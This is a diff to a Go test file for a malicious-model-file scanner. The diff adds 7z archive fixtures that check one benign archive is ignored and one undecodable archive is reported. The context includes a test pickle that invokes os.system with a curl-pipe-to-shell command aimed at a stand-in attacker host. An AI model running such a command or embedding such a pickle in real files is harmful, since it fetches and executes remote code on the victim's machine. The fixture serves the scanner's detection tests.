@@ -12,6 +12,7 @@ import (
 	"github.com/overshare/overshare/internal/config"
 	"github.com/overshare/overshare/internal/detect"
 	"github.com/overshare/overshare/internal/finding"
+	"github.com/overshare/overshare/internal/sevenzip/sevenzipwrite"
 )
 
 // reducePickle is a protocol 2 pickle that calls module.name(arg) when
@@ -42,6 +43,15 @@ func torchZip(t *testing.T, pkl []byte) []byte {
 	return buf.Bytes()
 }
 
+func sevenZipOf(t *testing.T, f sevenzipwrite.Folder) []byte {
+	t.Helper()
+	b, err := (&sevenzipwrite.Archive{Folders: []sevenzipwrite.Folder{f}}).Bytes()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
 func TestModelFiles(t *testing.T) {
 	dir := t.TempDir()
 	evil := reducePickle("os", "system", "curl -s https://attacker.example/x | sh")
@@ -54,6 +64,10 @@ func TestModelFiles(t *testing.T) {
 		"docs/notes.txt":            []byte("cos is a function\nnot a pickle\n"),
 		"checkpoints/truncated.pkl": evil[:12],
 		"checkpoints/random.bin":    bytes.Repeat([]byte{0x42, 0x17, 0x99}, 100),
+		// 7z archives: one of documents is no model; one whose member is
+		// under a coder overshare does not decode could hide one.
+		"docs/manuals.7z":       sevenZipOf(t, sevenzipwrite.Folder{Method: sevenzipwrite.LZMA2, Files: []sevenzipwrite.File{{Name: "manual.txt", Data: []byte("read me\n")}}}),
+		"checkpoints/packed.7z": sevenZipOf(t, sevenzipwrite.Folder{Coders: []sevenzipwrite.Coder{{ID: sevenzipwrite.IDPPMD, Props: []byte{6, 0, 0, 0, 1}}}, Packed: []byte("\x00\x01\x02\x03"), Files: []sevenzipwrite.File{{Name: "model.pt", Data: []byte("xxxx")}}}),
 	}
 	for name, data := range files {
 		p := filepath.Join(dir, name)
@@ -90,12 +104,16 @@ func TestModelFiles(t *testing.T) {
 	if !strings.Contains(reasons, "attacker.example") {
 		t.Errorf("reasons do not show the command as evidence:\n%s", reasons)
 	}
+	if u := byRule[detect.RulePickleUnknown]; len(u) != 1 || !strings.HasSuffix(u[0].Locations[0].Path, "packed.7z") {
+		t.Errorf("could-not-judge findings = %+v, want one, for packed.7z", u)
+	}
 	if n := len(byRule[detect.RulePickleSuspiciousImport]); n != 1 {
 		t.Errorf("suspicious findings = %d, want 1 (mylab.config.Settings)", n)
 	}
 	for _, f := range res.Findings {
 		for _, l := range f.Locations {
-			if strings.Contains(l.Path, "benign") || strings.Contains(l.Path, "counter") || strings.Contains(l.Path, "notes") || strings.Contains(l.Path, "random") {
+			if strings.Contains(l.Path, "benign") || strings.Contains(l.Path, "counter") || strings.Contains(l.Path, "notes") ||
+				strings.Contains(l.Path, "random") || strings.Contains(l.Path, "manuals.7z") {
 				t.Errorf("%s reported at %s", f.Rule, l.Path)
 			}
 		}
